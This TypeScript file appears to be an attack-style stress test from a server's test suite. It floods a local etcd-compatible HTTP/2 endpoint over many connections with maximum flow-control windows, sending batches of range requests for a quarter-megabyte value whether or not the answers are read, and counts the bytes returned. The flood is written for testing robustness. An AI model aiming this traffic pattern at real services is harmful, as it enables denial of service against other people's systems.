/**
 * Many streams of HTTP/2 that each ask for a quarter of a megabyte as JSON, more and more of them,
 * whether or not what was answered has been read. Arguments: connections.
 */
import { EtcdClient } from "../../src/client/etcd-client.ts";
import {
  block,
  DATA,
  END_HEADERS,
  END_STREAM,
  frame,
  HEADERS,
  HostileConnection,
  INITIAL_WINDOW_SIZE,
  WINDOW_MAX,
  widen,
} from "./hostile-connection.ts";
import { runAttack } from "./script.ts";

const VALUE_BYTES = 240_000;
const STREAMS_PER_STRIKE = 50;
const STRIKE_MS = 50;

const KEY = "streams";
const BODY = Buffer.from(JSON.stringify({ key: btoa(KEY), serializable: true }));
const HEAD = block([
  [":method", "POST"],
  [":scheme", "http"],
  [":path", "/v3/kv/range"],
  [":authority", "localhost"],
]);

await runAttack(async (attack) => {
  const [count = "100"] = attack.args;
  const client = new EtcdClient({ endpoints: [`127.0.0.1:${attack.port}`] });
  await client.put(KEY, Buffer.alloc(VALUE_BYTES, "v"));
  client.close();
  const open = () => HostileConnection.begin(attack.port, [INITIAL_WINDOW_SIZE, WINDOW_MAX]);
  const connections = await Promise.all(Array.from({ length: Number(count) }, open));
  for (const connection of connections) connection.send(widen());
  attack.begin();
  for (let id = 1; !attack.over; await Bun.sleep(STRIKE_MS)) {
    const parts: Uint8Array[] = [];
    for (let stream = 0; stream < STREAMS_PER_STRIKE; stream++, id += 2) {
      parts.push(frame(HEADERS, END_HEADERS, id, HEAD), frame(DATA, END_STREAM, id, BODY));
    }
    for (const connection of connections) connection.send(...parts);
    attack.count("ranges asked for", connections.length * STREAMS_PER_STRIKE);
  }
  for (const connection of connections) {
    attack.count("answered bytes", connection.dataBytes);
    connection.close();
  }
});
